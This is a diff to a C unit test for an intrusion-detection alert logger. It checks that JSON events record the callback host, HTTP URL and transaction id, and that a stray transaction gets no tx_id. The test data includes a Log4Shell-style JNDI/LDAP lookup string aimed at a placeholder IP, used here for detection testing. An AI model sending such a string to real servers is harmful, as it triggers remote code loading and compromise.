@@ -133,7 +133,7 @@ static void an_alert_tells_the_whole_story(void)
 {
     struct eve *e = eve_new(&(struct eve_options){.host = "sensor-a", .line_bytes = 16384});
     struct conn conn = sample_conn();
-    struct tx tx = {.id = 3, .conn = &conn, .decoder = &http};
+    struct tx tx = {.id = 3, .flags = TX_REQUEST_SEEN, .conn = &conn, .decoder = &http};
     struct kept_field url = {.id = FIELD_HTTP_URI_RAW, .value = SPAN_LITERAL("/login")};
     tx.kept = &url;
     struct span names[] = {SPAN_LITERAL("jndi:ldap://203.0.113.9:1389/a")};
@@ -178,8 +178,12 @@ static void an_alert_tells_the_whole_story(void)
     CU_ASSERT(has(event, "\"callback\":{\"host\":\"203.0.113.9\",\"port\":1389,\"path\":\"/a\""));
     CU_ASSERT(has(event, "\"http\":{\"url\":\"/login\""));
     CU_ASSERT(has(event, "\"tx_id\":3,"));
+    tx.flags = 0; /* stray bytes: there is no event of such a transaction */
+    struct event *stray = eve_alert(e, &tx, &f, &places);
+    CU_ASSERT_FALSE(has(stray, "\"tx_id\""));
+    mem_free(stray);
     CU_ASSERT_EQUAL(span_find(span_of(event->json, event->len), 0, SPAN("${")), SPAN_NONE);
-    CU_ASSERT_EQUAL(conn.n_events, 1);
+    CU_ASSERT_EQUAL(conn.n_events, 2);
     mem_free(event);
     tx.flags = TX_ALTERNATE;
     event = eve_alert(e, &tx, &f, &places);
